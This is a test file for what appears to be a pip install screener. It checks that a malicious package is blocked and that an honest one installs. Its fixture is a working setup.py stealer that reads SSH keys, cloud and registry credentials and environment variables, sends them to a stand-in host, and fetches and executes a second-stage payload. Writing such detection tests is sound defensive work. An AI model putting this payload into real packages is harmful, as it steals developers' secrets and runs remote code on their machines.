import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { join } from 'node:path';
import process from 'node:process';
import { text } from 'node:stream/consumers';
import { fileURLToPath } from 'node:url';
import { plain, setupPy } from '../helpers/pip-fixtures.js';
import { PipWorld } from '../helpers/pip-world.js';

const BIN = fileURLToPath(new URL('../../../bin/safe-install.js', import.meta.url));

/** Sends what the machine knows of its user away and runs what comes back; hosts that do not exist, one canary. */
const thief = (canary: string): string => `
open(${JSON.stringify(canary)}, "a").write("ran")
import os, base64, socket, getpass, subprocess, urllib.request, json
def collect():
    found = dict(os.environ)
    found["host"], found["user"] = socket.gethostname(), getpass.getuser()
    for name in (".ssh/id_rsa", ".aws/credentials", ".npmrc", ".pypirc", ".git-credentials"):
        try: found[name] = open(os.path.expanduser("~/" + name)).read()
        except OSError: pass
    return found
data = base64.b64encode(json.dumps(collect()).encode())
urllib.request.urlopen(urllib.request.Request("https://collect.invalid/upload", data=data))
code = urllib.request.urlopen("https://collect.invalid/stage2").read()
exec(base64.b64decode(code))
subprocess.Popen(["python3", "-c", base64.b64decode(code).decode()])
`;

describe('safe-install pip, with the bundled model', function () {
  this.timeout(300_000);
  let world: PipWorld;
  before(async () => {
    world = await PipWorld.create();
    world.index.addWheel(plain('good', { 'good.py': 'def add(a, b):\n    return a + b\n' }));
    world.index.addSdist(setupPy('honest1'));
    world.index.addSdist(setupPy('thief1', thief(world.canary)));
  });
  after(() => world.remove());
  afterEach(() => world.reset());

  const run = async (...argv: string[]) => {
    const env = {
      ...world.env,
      XDG_CACHE_HOME: join(world.folder, 'cache'),
      XDG_STATE_HOME: join(world.folder, 'state'),
    };
    const child = spawn(process.execPath, [BIN, 'pip', ...argv], {
      cwd: world.folder,
      env,
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    const [stdout, stderr, [exitCode]] = await Promise.all([
      text(child.stdout),
      text(child.stderr),
      once(child, 'exit'),
    ]);
    return { stdout, stderr, exitCode: exitCode as number };
  };

  it('an honest sdist and wheel: pip speaks on stdout, one line of ours on stderr, exit 0', async () => {
    const { stdout, stderr, exitCode } = await run('install', 'good', 'honest1');
    assert.equal(exitCode, 0, stderr);
    assert.match(stdout, /Successfully installed/);
    const own = stderr.split('\n').filter((line) => line.includes('safe-install'));
    assert.equal(own.length, 1, stderr);
    assert.match(own[0]!, /packages read, none flagged/);
    assert.doesNotMatch(stdout, /^safe-install/m);
  });

  it('a setup.py that steals: exit 100, a card with name, way and evidence, nothing ran', async () => {
    const before = world.installed();
    const { stdout, stderr, exitCode } = await run('install', 'good', 'thief1');
    assert.equal(exitCode, 100, stderr);
    assert.equal(world.canaryText(), '');
    assert.deepEqual(world.installed(), before);
    assert.match(stderr, /blocked.*thief1@1\.0/);
    assert.match(stderr, /came in: pip install.*thief1@1\.0/);
    assert.match(stderr, /setup\.py:\d+/);
    assert.match(stderr, /nothing was installed/);
    assert.doesNotMatch(stdout, /Successfully installed/);
  });

  it('commands that install nothing: pip alone speaks', async () => {
    const { stdout, stderr, exitCode } = await run('list', '--format=freeze');
    assert.equal(exitCode, 0);
    assert.match(stdout, /^pip==/m);
    assert.equal(stderr, '');
  });
});
